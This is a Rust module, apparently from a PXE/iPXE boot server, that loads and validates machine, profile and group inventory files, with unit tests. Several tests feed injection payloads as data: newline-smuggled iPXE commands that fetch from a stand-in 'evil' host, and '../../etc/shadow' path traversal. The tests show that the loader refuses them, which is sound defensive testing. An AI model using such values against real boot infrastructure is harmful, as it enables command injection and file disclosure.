//! The inventory: machines and boot profiles read from plain files in the conf repo.
//! Files are the single source of truth; this module parses them once into an immutable
//! [`Inventory`] and reports every problem as `path:line: what is wrong`.
//!
//! Two machine layouts are read, both easy to edit with a shell:
//! - `machines/<name>.toml` — one file per machine (mac, ip, hostname, profile, args, [params]);
//! - the original layout `conf/<server-ip>/<machine-ip>/` with one-line files `mac` (required),
//!   `hostname`, `profile`, `args`.
//!
//! Boot profiles are `profiles/<name>.toml`. A profile named `default` applies to machines that
//! name none (including unknown MACs).
//!
//! Groups are `groups/<name>.toml` with a `[params]` table: defaults for the machines whose
//! param `group` is `<name>` (a machine's own params win).
//!
//! A file that fails to parse never takes the rest down: it is reported, and if the previous
//! inventory had a machine from that same file, that previous version keeps being served.
pub mod edit;
pub mod register;

use crate::core::mac::Mac;
use serde::Deserialize;
use std::collections::{BTreeMap, HashMap};
use std::fmt;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

#[derive(Debug, Clone, PartialEq)]
pub struct Machine {
    pub mac: Mac,
    pub ip: Option<Ipv4Addr>,
    pub hostname: Option<String>,
    pub profile: Option<String>,
    /// Extra kernel arguments appended after the profile's.
    pub args: Option<String>,
    pub params: BTreeMap<String, String>,
    /// The file (or directory, for the `conf/` layout) this machine came from.
    pub source: PathBuf,
    /// When zero-touch registration wrote this machine (unix seconds, from its `registered`
    /// line); None for machines written by hand.
    pub registered: Option<i64>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum BootKind {
    /// iPXE fetches a per-host script over HTTP that loads kernel + initrd.
    Ipxe,
    /// pxelinux.0 over TFTP with a generated `pxelinux.cfg/01-<mac>`.
    Pxelinux,
    /// Do not netboot: iPXE exits so the firmware boots the local disk.
    Local,
    /// A writable root over NFS: the base's kernel and initramfs over HTTP (iPXE), the root
    /// an overlay of the base with the host's own upper directory on the server (`nfsroot`).
    Nfsroot,
}

#[derive(Debug, Clone, PartialEq)]
pub struct Profile {
    pub name: String,
    pub boot: BootKind,
    /// Paths relative to the boot directory.
    pub kernel: Option<String>,
    pub initrd: Option<String>,
    pub args: String,
    /// A live kiosk (Debian Live / Webconverger): the machine's kiosk params become kernel
    /// arguments, plus `noconfig noupgrade` (see `core::boot::kiosk_args`).
    pub kiosk: bool,
    /// The live system's squashfs under the boot directory (`boot=live fetch=…`).
    pub squashfs: Option<String>,
    /// The imported live image it boots ("name" = current version, or "name-vN").
    pub image: Option<String>,
    /// For `boot = "nfsroot"`: the base its machines' roots lie over ("name" = current
    /// version, or "name-vN"; `pxelator base list`).
    pub base: Option<String>,
    pub source: PathBuf,
}

/// One thing wrong with one file.
#[derive(Debug, Clone, PartialEq)]
pub struct Problem {
    pub path: PathBuf,
    pub line: Option<usize>,
    pub message: String,
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.line {
            Some(l) => write!(f, "{}:{}: {}", self.path.display(), l, self.message),
            None => write!(f, "{}: {}", self.path.display(), self.message),
        }
    }
}

/// What services read: lookups by MAC and IP, profiles by name. Cheap to clone (Arc inside).
#[derive(Debug, Clone, Default)]
pub struct Inventory {
    inner: Arc<Inner>,
}

#[derive(Debug, Default)]
struct Inner {
    machines: Vec<Machine>,
    by_mac: HashMap<Mac, usize>,
    by_ip: HashMap<Ipv4Addr, usize>,
    profiles: BTreeMap<String, Profile>,
    /// Group defaults (`groups/<name>.toml` `[params]`), by group name.
    groups: BTreeMap<String, BTreeMap<String, String>>,
    /// Files that had a problem when this was loaded: never reused unread by the next load.
    problem_paths: std::collections::HashSet<PathBuf>,
}

impl Inventory {
    pub fn by_mac(&self, mac: &Mac) -> Option<&Machine> {
        self.inner.by_mac.get(mac).map(|&i| &self.inner.machines[i])
    }
    pub fn by_ip(&self, ip: &Ipv4Addr) -> Option<&Machine> {
        self.inner.by_ip.get(ip).map(|&i| &self.inner.machines[i])
    }
    pub fn machines(&self) -> &[Machine] {
        &self.inner.machines
    }
    pub fn profile(&self, name: &str) -> Option<&Profile> {
        self.inner.profiles.get(name)
    }
    pub fn profiles(&self) -> impl Iterator<Item = &Profile> {
        self.inner.profiles.values()
    }
    /// Group defaults (`groups/<name>.toml`), by group name; already merged into the params of
    /// the group's machines.
    pub fn group_defaults(&self) -> &BTreeMap<String, BTreeMap<String, String>> {
        &self.inner.groups
    }
    /// The profile that applies to a machine (or to an unknown MAC when `machine` is None).
    pub fn profile_for(&self, machine: Option<&Machine>) -> Option<&Profile> {
        let name = machine
            .and_then(|m| m.profile.as_deref())
            .unwrap_or("default");
        self.profile(name)
    }

    /// Builds an inventory from already-parsed parts; duplicates are reported, first one wins.
    pub fn build(
        machines: Vec<Machine>,
        profiles: Vec<Profile>,
        problems: &mut Vec<Problem>,
    ) -> Inventory {
        let mut inner = Inner::default();
        for p in profiles {
            inner.profiles.insert(p.name.clone(), p);
        }
        for m in machines {
            if let Some(&other) = inner.by_mac.get(&m.mac) {
                problems.push(Problem {
                    path: m.source.clone(),
                    line: None,
                    message: format!(
                        "MAC {} already used by {}; remove one of the two",
                        m.mac,
                        inner.machines[other].source.display()
                    ),
                });
                continue;
            }
            if let Some(ip) = m.ip {
                if let Some(&other) = inner.by_ip.get(&ip) {
                    problems.push(Problem {
                        path: m.source.clone(),
                        line: None,
                        message: format!(
                            "IP {ip} already used by {}; give this machine another address",
                            inner.machines[other].source.display()
                        ),
                    });
                    continue;
                }
            }
            if let Some(p) = &m.profile {
                if !inner.profiles.contains_key(p) {
                    problems.push(Problem {
                        path: m.source.clone(),
                        line: None,
                        message: format!(
                            "profile {p:?} does not exist; create profiles/{p}.toml or pick one of: {}",
                            inner.profiles.keys().cloned().collect::<Vec<_>>().join(", ")
                        ),
                    });
                }
            }
            let i = inner.machines.len();
            inner.by_mac.insert(m.mac, i);
            if let Some(ip) = m.ip {
                inner.by_ip.insert(ip, i);
            }
            inner.machines.push(m);
        }
        inner.problem_paths = problems.iter().map(|p| p.path.clone()).collect();
        Inventory {
            inner: Arc::new(inner),
        }
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MachineFile {
    mac: Mac,
    ip: Option<Ipv4Addr>,
    hostname: Option<HostName>,
    profile: Option<Text>,
    args: Option<Text>,
    #[serde(default)]
    params: BTreeMap<String, Text>,
    /// Written by zero-touch registration (RFC 3339); with it, a machine left as registered
    /// may be reclaimed (`[dhcp] reclaim_after_days`).
    registered: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ProfileFile {
    boot: BootKind,
    kernel: Option<Text>,
    initrd: Option<Text>,
    #[serde(default)]
    args: Text,
    #[serde(default)]
    kiosk: bool,
    squashfs: Option<Text>,
    /// An imported live image (`pxelator image import`): "name" for its current version or
    /// "name-vN"; supplies kernel, initrd and squashfs unless given.
    image: Option<Text>,
    /// With `boot = "nfsroot"`: a base built by `pxelator base build` ("name" or "name-vN");
    /// supplies kernel and initrd unless given.
    base: Option<Text>,
}

/// A profile file's values once read (checked [`Text`] turned into plain strings).
struct ProfileFields {
    boot: BootKind,
    kernel: Option<String>,
    initrd: Option<String>,
    args: String,
    kiosk: bool,
    squashfs: Option<String>,
    image: Option<String>,
    base: Option<String>,
}

impl From<ProfileFile> for ProfileFields {
    fn from(f: ProfileFile) -> ProfileFields {
        let s = |t: Option<Text>| t.map(|t| t.0);
        ProfileFields {
            boot: f.boot,
            kernel: s(f.kernel),
            initrd: s(f.initrd),
            args: f.args.0,
            kiosk: f.kiosk,
            squashfs: s(f.squashfs),
            image: s(f.image),
            base: s(f.base),
        }
    }
}

/// `groups/<name>.toml`: defaults for the machines whose param `group` is `<name>`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct GroupFile {
    #[serde(default)]
    params: BTreeMap<String, Text>,
}

/// A value that ends up in a generated boot script or on a kernel command line: no control
/// characters, so a newline can never start a new iPXE or pxelinux command. Checked while the
/// TOML is read, so the problem names the file and line.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(try_from = "String")]
struct Text(String);

impl TryFrom<String> for Text {
    type Error = String;
    fn try_from(s: String) -> Result<Text, String> {
        match s.chars().find(|c| c.is_control()) {
            Some(c) => Err(format!(
                "{s:?} holds the control character {c:?}; values go into boot scripts and kernel command lines, so write them on one line without control characters"
            )),
            None => Ok(Text(s)),
        }
    }
}

/// A host name as RFC 1123 §2.1 allows it (checked while reading, like [`Text`]).
#[derive(Debug, Clone, Deserialize)]
#[serde(try_from = "String")]
struct HostName(String);

impl TryFrom<String> for HostName {
    type Error = String;
    fn try_from(s: String) -> Result<HostName, String> {
        check_hostname(&s).map(|()| HostName(s))
    }
}

/// RFC 1123 §2.1 host name: dot-separated labels of letters, digits and '-', each 1–63
/// characters, not starting or ending with '-'; at most 253 characters in all.
pub fn check_hostname(s: &str) -> Result<(), String> {
    let label_ok = |l: &str| {
        (1..=63).contains(&l.len())
            && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    if !s.is_empty() && s.len() <= 253 && s.split('.').all(label_ok) {
        Ok(())
    } else {
        Err(format!(
            "hostname {s:?} is not a valid host name (RFC 1123): use letters, digits and '-' (not first or last), labels of at most 63 separated by '.'"
        ))
    }
}

/// The conf-repo directories the inventory is read from: what the daemon snapshots from the
/// committed tree and watches for uncommitted edits.
pub const DIRS: &[&str] = &["machines", "profiles", "conf", "groups"];

/// Loads the inventory under `root`. `server_ip` selects `conf/<server_ip>/` of the original
/// layout. Machines whose file is broken now but was fine in `previous` keep their old version.
pub fn load(
    root: &Path,
    server_ip: Ipv4Addr,
    previous: Option<&Inventory>,
) -> (Inventory, Vec<Problem>) {
    load_named(root, root, server_ip, previous)
}

/// Like [`load`], reading the files under `read_root` (e.g. a snapshot of the committed
/// tree) but naming them under `name_root` (the conf repo) in sources and problems.
pub fn load_named(
    read_root: &Path,
    name_root: &Path,
    server_ip: Ipv4Addr,
    previous: Option<&Inventory>,
) -> (Inventory, Vec<Problem>) {
    load_reusing(read_root, name_root, server_ip, previous, &|_| false)
}

/// Like [`load_named`]; a machine file for which `unchanged(path relative to the root)` is
/// true since `previous` was loaded (and that had no problem then) is taken from `previous`
/// instead of being read and parsed again — a reload after one registration parses one file.
/// The caller answers false for everything when a `groups/` file changed (group defaults are
/// merged into machines).
pub fn load_reusing(
    read_root: &Path,
    name_root: &Path,
    server_ip: Ipv4Addr,
    previous: Option<&Inventory>,
    unchanged: &dyn Fn(&str) -> bool,
) -> (Inventory, Vec<Problem>) {
    let root = read_root;
    let rename = |p: &Path| -> PathBuf {
        match p.strip_prefix(read_root) {
            Ok(rel) if read_root != name_root => name_root.join(rel),
            _ => p.to_owned(),
        }
    };
    let mut problems = Vec::new();
    let mut machines = Vec::new();
    let mut profiles = Vec::new();

    for path in toml_files(&root.join("profiles"), &mut problems) {
        let name = path
            .file_stem()
            .and_then(|s| s.to_str())
            .unwrap_or_default()
            .to_owned();
        match read_toml::<ProfileFile>(&path) {
            Ok(f) => {
                let mut f = ProfileFields::from(f);
                if let Some(img) = &f.image {
                    let (base, _) = crate::image::split_version(img);
                    if !crate::image::valid_name(base) {
                        problems.push(Problem {
                            path: path.clone(),
                            line: None,
                            message: format!("image = {img:?}: not an image name (`pxelator image list` shows them)"),
                        });
                        continue;
                    }
                    let [kernel, initrd, squashfs] =
                        crate::image::FILES.map(|n| Some(format!("images/{img}/{n}")));
                    f.kernel = f.kernel.or(kernel);
                    f.initrd = f.initrd.or(initrd);
                    f.squashfs = f.squashfs.or(squashfs);
                }
                match (&f.base, f.boot) {
                    (Some(b), BootKind::Nfsroot) => {
                        let (name, _) = crate::image::split_version(b);
                        if !crate::image::valid_name(name) {
                            problems.push(Problem {
                                path: path.clone(),
                                line: None,
                                message: format!("base = {b:?}: not a base name (`pxelator base list` shows them)"),
                            });
                            continue;
                        }
                        let [kernel, initrd] =
                            crate::base::BOOT_FILES.map(|n| Some(format!("bases/{b}/{n}")));
                        f.kernel = f.kernel.or(kernel);
                        f.initrd = f.initrd.or(initrd);
                    }
                    (None, BootKind::Nfsroot) => {
                        problems.push(Problem {
                            path: path.clone(),
                            line: None,
                            message: "boot = \"nfsroot\" needs base = \"name\" (a base built with `pxelator base build NAME`)".into(),
                        });
                        continue;
                    }
                    (Some(_), _) => {
                        problems.push(Problem {
                            path: path.clone(),
                            line: None,
                            message: "base = … is for boot = \"nfsroot\" profiles; remove it or set boot = \"nfsroot\"".into(),
                        });
                        continue;
                    }
                    (None, _) => {}
                }
                if f.boot != BootKind::Local && f.kernel.is_none() {
                    problems.push(Problem {
                        path: path.clone(),
                        line: None,
                        message: format!(
                            "boot = {:?} needs kernel = \"path under the boot directory\"",
                            f.boot
                        ),
                    });
                    continue;
                }
                if f.kiosk && f.boot != BootKind::Ipxe {
                    problems.push(Problem {
                        path: path.clone(),
                        line: None,
                        message: "kiosk = true needs boot = \"ipxe\" (the live system is fetched over HTTP)".into(),
                    });
                    continue;
                }
                if let Some(bad) = [&f.kernel, &f.initrd, &f.squashfs]
                    .into_iter()
                    .flatten()
                    .find(|p| !safe_rel_path(p))
                {
                    problems.push(Problem {
                        path: path.clone(),
                        line: None,
                        message: format!(
                            "{bad:?} must be a relative path inside the boot directory (no '..', spaces or control characters)"
                        ),
                    });
                    continue;
                }
                profiles.push(Profile {
                    name,
                    boot: f.boot,
                    kernel: f.kernel,
                    initrd: f.initrd,
                    args: f.args,
                    kiosk: f.kiosk,
                    squashfs: f.squashfs,
                    image: f.image,
                    base: f.base,
                    source: path,
                });
            }
            Err(p) => {
                problems.push(p);
                if let Some(old) = previous.and_then(|inv| inv.profile(&name)) {
                    profiles.push(old.clone());
                }
            }
        }
    }

    let reusable: HashMap<&Path, &Machine> = previous
        .map(|inv| {
            inv.machines()
                .iter()
                .filter(|m| !inv.inner.problem_paths.contains(&m.source))
                .map(|m| (m.source.as_path(), m))
                .collect()
        })
        .unwrap_or_default();
    for path in toml_files(&root.join("machines"), &mut problems) {
        let rel = path.strip_prefix(root).unwrap_or(&path);
        if rel.to_str().is_some_and(unchanged) {
            if let Some(m) = reusable.get(name_root.join(rel).as_path()) {
                machines.push((*m).clone());
                continue;
            }
        }
        match read_toml::<MachineFile>(&path) {
            Ok(f) => machines.push(Machine {
                mac: f.mac,
                ip: f.ip,
                hostname: f.hostname.map(|h| h.0),
                profile: f.profile.map(|t| t.0),
                args: f.args.map(|t| t.0),
                params: f.params.into_iter().map(|(k, v)| (k, v.0)).collect(),
                registered: f
                    .registered
                    .and_then(|r| r.parse::<jiff::Timestamp>().ok())
                    .map(|t| t.as_second()),
                source: path,
            }),
            Err(p) => {
                problems.push(p);
                keep_previous(previous, &rename(&path), &mut machines);
            }
        }
    }

    let seed_dir = root.join("conf").join(server_ip.to_string());
    if seed_dir.is_dir() {
        for dir in sorted_entries(&seed_dir, &mut problems) {
            if !dir.is_dir() {
                continue;
            }
            match read_seed_machine(&dir) {
                Ok(m) => machines.push(m),
                Err(p) => {
                    problems.push(p);
                    keep_previous(previous, &rename(&dir), &mut machines);
                }
            }
        }
    }

    // Group defaults: a machine's own params win over its group's.
    let mut groups: BTreeMap<String, BTreeMap<String, String>> = BTreeMap::new();
    for path in toml_files(&root.join("groups"), &mut problems) {
        let name = path
            .file_stem()
            .and_then(|s| s.to_str())
            .unwrap_or_default()
            .to_owned();
        match read_toml::<GroupFile>(&path) {
            Ok(g) => {
                groups.insert(name, g.params.into_iter().map(|(k, v)| (k, v.0)).collect());
            }
            Err(p) => problems.push(p),
        }
    }
    for m in &mut machines {
        if let Some(defaults) = m.params.get("group").and_then(|g| groups.get(g)) {
            for (k, v) in defaults {
                m.params.entry(k.clone()).or_insert_with(|| v.clone());
            }
        }
    }
    for m in &mut machines {
        m.source = rename(&m.source);
    }
    for p in &mut profiles {
        p.source = rename(&p.source);
    }
    for p in &mut problems {
        p.path = rename(&p.path);
    }
    let mut inv = Inventory::build(machines, profiles, &mut problems);
    if let Some(inner) = Arc::get_mut(&mut inv.inner) {
        inner.groups = groups;
    }
    (inv, problems)
}

fn keep_previous(previous: Option<&Inventory>, source: &Path, machines: &mut Vec<Machine>) {
    if let Some(old) = previous.and_then(|inv| inv.machines().iter().find(|m| m.source == source)) {
        machines.push(old.clone());
    }
}

fn read_seed_machine(dir: &Path) -> Result<Machine, Problem> {
    let name = dir.file_name().and_then(|s| s.to_str()).unwrap_or_default();
    let ip: Ipv4Addr = name.parse().map_err(|_| Problem {
        path: dir.to_owned(),
        line: None,
        message:
            "directory name must be the machine's IPv4 address (conf/<server-ip>/<machine-ip>/)"
                .into(),
    })?;
    let one_line = |file: &str| -> Result<Option<String>, Problem> {
        let p = dir.join(file);
        match std::fs::read_to_string(&p) {
            Ok(s) => {
                let v = s.trim();
                if v.lines().count() > 1 {
                    return Err(Problem {
                        path: p,
                        line: Some(2),
                        message: "expected a single line".into(),
                    });
                }
                if let Err(message) = Text::try_from(v.to_owned()) {
                    return Err(Problem {
                        path: p,
                        line: Some(1),
                        message,
                    });
                }
                Ok((!v.is_empty()).then(|| v.to_owned()))
            }
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(Problem {
                path: p,
                line: None,
                message: format!("cannot read: {e}"),
            }),
        }
    };
    let mac_text = one_line("mac")?.ok_or_else(|| Problem {
        path: dir.join("mac"),
        line: None,
        message: "missing: write the machine's MAC into this file (echo 52:54:00:12:34:56 > mac)"
            .into(),
    })?;
    let mac = mac_text.parse::<Mac>().map_err(|e| Problem {
        path: dir.join("mac"),
        line: Some(1),
        message: e.to_string(),
    })?;
    let hostname = one_line("hostname")?;
    if let Some(Err(message)) = hostname.as_deref().map(check_hostname) {
        return Err(Problem {
            path: dir.join("hostname"),
            line: Some(1),
            message,
        });
    }
    Ok(Machine {
        mac,
        ip: Some(ip),
        hostname,
        profile: one_line("profile")?,
        args: one_line("args")?,
        params: BTreeMap::new(),
        source: dir.to_owned(),
        registered: None,
    })
}

fn read_toml<T: serde::de::DeserializeOwned>(path: &Path) -> Result<T, Problem> {
    crate::tomlfile::read(path).map_err(|e| Problem {
        path: e.path,
        line: e.line,
        message: e.message,
    })
}

fn sorted_entries(dir: &Path, problems: &mut Vec<Problem>) -> Vec<PathBuf> {
    match std::fs::read_dir(dir) {
        Ok(rd) => {
            let mut v: Vec<PathBuf> = rd
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| {
                    !p.file_name()
                        .and_then(|n| n.to_str())
                        .is_some_and(|n| n.starts_with('.'))
                })
                .collect();
            v.sort();
            v
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
        Err(e) => {
            problems.push(Problem {
                path: dir.to_owned(),
                line: None,
                message: format!("cannot list: {e}"),
            });
            Vec::new()
        }
    }
}

fn toml_files(dir: &Path, problems: &mut Vec<Problem>) -> Vec<PathBuf> {
    sorted_entries(dir, problems)
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "toml") && p.is_file())
        .collect()
}

/// True for a relative path with no `..`, root or prefix components.
/// Whitespace and control characters are refused too: the path goes into a boot script line.
pub fn safe_rel_path(p: &str) -> bool {
    !p.is_empty()
        && !p.chars().any(|c| c.is_whitespace() || c.is_control())
        && Path::new(p).components().all(|c| {
            matches!(
                c,
                std::path::Component::Normal(_) | std::path::Component::CurDir
            )
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, text).unwrap();
    }
    const SERVER: Ipv4Addr = Ipv4Addr::new(10, 77, 1, 1);

    fn base() -> tempfile::TempDir {
        let d = tempfile::tempdir().unwrap();
        write(d.path(), "profiles/default.toml", "boot = \"ipxe\"\nkernel = \"vmlinuz\"\ninitrd = \"initrd.img\"\nargs = \"console=ttyS0\"\n");
        write(
            d.path(),
            "machines/kiosk1.toml",
            "mac = \"52:54:00:00:00:01\"\nip = \"10.77.1.11\"\nhostname = \"kiosk1\"\n",
        );
        d
    }

    #[test]
    fn reads_both_layouts() {
        let d = base();
        write(
            d.path(),
            "conf/10.77.1.1/10.77.1.12/mac",
            "52:54:00:00:00:02\n",
        );
        write(
            d.path(),
            "conf/10.77.1.1/10.77.1.12/hostname",
            "old-style\n",
        );
        let (inv, problems) = load(d.path(), SERVER, None);
        assert!(problems.is_empty(), "{problems:?}");
        let m = inv.by_mac(&"52:54:00:00:00:02".parse().unwrap()).unwrap();
        assert_eq!(m.ip, Some(Ipv4Addr::new(10, 77, 1, 12)));
        assert_eq!(m.hostname.as_deref(), Some("old-style"));
        assert_eq!(
            inv.by_ip(&Ipv4Addr::new(10, 77, 1, 11))
                .unwrap()
                .hostname
                .as_deref(),
            Some("kiosk1")
        );
        assert_eq!(inv.profile_for(Some(m)).unwrap().name, "default");
    }

    #[test]
    fn bad_file_reports_path_and_line_and_others_still_load() {
        let d = base();
        write(
            d.path(),
            "machines/broken.toml",
            "mac = \"52:54:00:00:00:03\"\nip = \"10.77.1.300\"\n",
        );
        let (inv, problems) = load(d.path(), SERVER, None);
        assert_eq!(problems.len(), 1);
        let shown = problems[0].to_string();
        assert!(shown.contains("broken.toml:2:"), "{shown}");
        assert_eq!(inv.machines().len(), 1);
    }

    /// Issue 10: a hostname with a newline went into the generated iPXE script's comment
    /// line, so the next line ran as an iPXE command. Refused at load, with path:line.
    #[test]
    fn injected_newlines_and_control_characters_are_refused_at_load_with_path_and_line() {
        let cases = [
            (
                "machines/evil.toml",
                "mac = \"52:54:00:00:00:09\"\nhostname = \"kiosk9\\nchain http://evil/x\"\n",
                2,
                "RFC 1123",
            ),
            (
                "machines/evil.toml",
                "mac = \"52:54:00:00:00:09\"\n\nargs = \"quiet\\rboot\"\n",
                3,
                "control character",
            ),
            (
                "machines/evil.toml",
                "mac = \"52:54:00:00:00:09\"\n[params]\nhomepage = \"x\\u0000y\"\n",
                3,
                "control character",
            ),
            (
                "machines/evil.toml",
                "mac = \"52:54:00:00:00:09\"\nhostname = \"-kiosk\"\n",
                2,
                "RFC 1123",
            ),
            (
                "profiles/evil.toml",
                "boot = \"ipxe\"\nkernel = \"vmlinuz\"\nargs = \"a\\nimgfetch http://evil/x\"\n",
                3,
                "control character",
            ),
            (
                "groups/evil.toml",
                "[params]\ncron = \"0 8 * * *\\tx\"\n",
                2,
                "control character",
            ),
        ];
        for (file, text, line, why) in cases {
            let d = base();
            write(d.path(), file, text);
            let (inv, problems) = load(d.path(), SERVER, None);
            assert_eq!(problems.len(), 1, "{file}: {problems:?}");
            let shown = problems[0].to_string();
            assert!(shown.contains(&format!("{file}:{line}:")), "{shown}");
            assert!(shown.contains(why), "{shown}");
            assert!(inv.by_mac(&"52:54:00:00:00:09".parse().unwrap()).is_none());
            assert!(inv.profile("evil").is_none());
        }
        // The original layout: one-line files.
        let d = base();
        write(
            d.path(),
            "conf/10.77.1.1/10.77.1.12/mac",
            "52:54:00:00:00:02\n",
        );
        write(d.path(), "conf/10.77.1.1/10.77.1.12/hostname", "bad_name\n");
        let (_, problems) = load(d.path(), SERVER, None);
        assert!(
            problems[0].to_string().contains("10.77.1.12/hostname:1:"),
            "{problems:?}"
        );
        // A kernel path with a space would split the script's kernel line.
        let d = base();
        write(
            d.path(),
            "profiles/evil.toml",
            "boot = \"ipxe\"\nkernel = \"vmlinuz initrd=x\"\n",
        );
        let (_, problems) = load(d.path(), SERVER, None);
        assert!(
            problems[0]
                .to_string()
                .contains("inside the boot directory"),
            "{problems:?}"
        );
    }

    #[test]
    fn hostnames_follow_rfc_1123() {
        for ok in [
            "kiosk1",
            "k",
            "1kiosk",
            "kiosk-1.lib.example",
            &"a".repeat(63),
        ] {
            assert!(check_hostname(ok).is_ok(), "{ok}");
        }
        for bad in [
            "",
            "-k",
            "k-",
            "k_1",
            "k..l",
            "k.",
            &"a".repeat(64),
            "kï",
            "k 1",
        ] {
            assert!(check_hostname(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn previous_version_of_a_broken_file_keeps_serving() {
        let d = base();
        let (first, _) = load(d.path(), SERVER, None);
        write(d.path(), "machines/kiosk1.toml", "mac = \"not a mac\"\n");
        let (second, problems) = load(d.path(), SERVER, Some(&first));
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(
            problems[0].to_string().contains("not a MAC"),
            "{}",
            problems[0]
        );
        assert_eq!(
            second
                .by_ip(&Ipv4Addr::new(10, 77, 1, 11))
                .unwrap()
                .hostname
                .as_deref(),
            Some("kiosk1")
        );
    }

    #[test]
    fn duplicate_mac_and_ip_name_the_other_file() {
        let d = base();
        write(
            d.path(),
            "machines/zz-dup-mac.toml",
            "mac = \"52:54:00:00:00:01\"\nip = \"10.77.1.50\"\n",
        );
        write(
            d.path(),
            "machines/zz-dup-ip.toml",
            "mac = \"52:54:00:00:00:09\"\nip = \"10.77.1.11\"\n",
        );
        let (inv, problems) = load(d.path(), SERVER, None);
        let text: Vec<String> = problems.iter().map(|p| p.to_string()).collect();
        assert!(
            text.iter()
                .any(|t| t.contains("zz-dup-mac.toml") && t.contains("kiosk1.toml")),
            "{text:?}"
        );
        assert!(
            text.iter()
                .any(|t| t.contains("zz-dup-ip.toml") && t.contains("IP 10.77.1.11")),
            "{text:?}"
        );
        assert_eq!(inv.machines().len(), 1);
    }

    #[test]
    fn unknown_key_and_unknown_profile_are_reported() {
        let d = base();
        write(
            d.path(),
            "machines/typo.toml",
            "mac = \"52:54:00:00:00:04\"\nhostnme = \"x\"\n",
        );
        write(
            d.path(),
            "machines/noprof.toml",
            "mac = \"52:54:00:00:00:05\"\nprofile = \"nope\"\n",
        );
        let (_, problems) = load(d.path(), SERVER, None);
        let text: Vec<String> = problems.iter().map(|p| p.to_string()).collect();
        assert!(
            text.iter()
                .any(|t| t.contains("typo.toml:2:") && t.contains("hostnme")),
            "{text:?}"
        );
        assert!(
            text.iter().any(|t| t.contains("profiles/nope.toml")),
            "{text:?}"
        );
    }

    #[test]
    fn profile_paths_must_stay_inside_boot_dir() {
        let d = base();
        write(
            d.path(),
            "profiles/evil.toml",
            "boot = \"ipxe\"\nkernel = \"../../etc/shadow\"\n",
        );
        let (inv, problems) = load(d.path(), SERVER, None);
        assert!(inv.profile("evil").is_none());
        assert!(
            problems[0].to_string().contains("relative path"),
            "{}",
            problems[0]
        );
    }

    #[test]
    fn seed_dir_without_mac_file_says_how_to_fix() {
        let d = base();
        write(d.path(), "conf/10.77.1.1/10.77.1.20/hostname", "x\n");
        let (_, problems) = load(d.path(), SERVER, None);
        assert!(
            problems[0]
                .to_string()
                .contains("echo 52:54:00:12:34:56 > mac"),
            "{}",
            problems[0]
        );
    }
}

#[cfg(test)]
mod nfsroot_profile_tests {
    use super::*;
    use std::fs;

    fn load_profile(text: &str) -> (Inventory, Vec<Problem>) {
        let d = tempfile::tempdir().unwrap();
        fs::create_dir_all(d.path().join("profiles")).unwrap();
        fs::write(d.path().join("profiles/nfs.toml"), text).unwrap();
        load(d.path(), Ipv4Addr::new(10, 77, 1, 1), None)
    }

    #[test]
    fn an_nfsroot_profile_takes_kernel_and_initrd_from_its_base() {
        let (inv, problems) = load_profile("boot = \"nfsroot\"\nbase = \"debian-v2\"\n");
        assert!(problems.is_empty(), "{problems:?}");
        let p = inv.profile("nfs").unwrap();
        assert_eq!(p.kernel.as_deref(), Some("bases/debian-v2/vmlinuz"));
        assert_eq!(p.initrd.as_deref(), Some("bases/debian-v2/initrd.img"));
        assert_eq!(p.base.as_deref(), Some("debian-v2"));
    }

    #[test]
    fn base_and_boot_must_go_together_and_the_name_stay_a_name() {
        for (text, says) in [
            ("boot = \"nfsroot\"\n", "needs base"),
            (
                "boot = \"ipxe\"\nkernel = \"k\"\nbase = \"debian\"\n",
                "for boot = \"nfsroot\"",
            ),
            (
                "boot = \"nfsroot\"\nbase = \"../../etc\"\n",
                "not a base name",
            ),
        ] {
            let (inv, problems) = load_profile(text);
            assert!(inv.profile("nfs").is_none(), "{text}");
            assert!(
                problems
                    .iter()
                    .any(|p| p.message.contains(says) && p.path.ends_with("profiles/nfs.toml")),
                "{text}: {problems:?}"
            );
        }
    }
}
